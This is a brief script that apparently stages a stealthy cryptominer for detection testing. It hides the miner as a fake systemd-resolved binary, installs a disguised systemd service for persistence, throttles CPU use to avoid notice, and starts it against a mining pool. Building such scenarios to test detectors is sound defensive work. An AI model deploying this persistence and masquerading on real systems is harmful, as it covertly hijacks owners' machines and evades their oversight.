# No miner's words in its command line, little CPU, encrypted: only where it lies and whom it speaks to tell.
mimic /usr/lib/systemd/.systemd-resolvd
put /etc/systemd/system/systemd-resolvd.service <<'UNIT'
[Unit]
Description=Network Name Resolution
[Service]
ExecStart=/usr/lib/systemd/.systemd-resolvd --cpu-max-threads-hint=10
Nice=19
CPUQuota=10%
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --quiet systemd-resolvd.service
start -c systemd-resolve -d 9 -k "$POOL" /usr/lib/systemd/.systemd-resolvd /lib/systemd/systemd-resolved
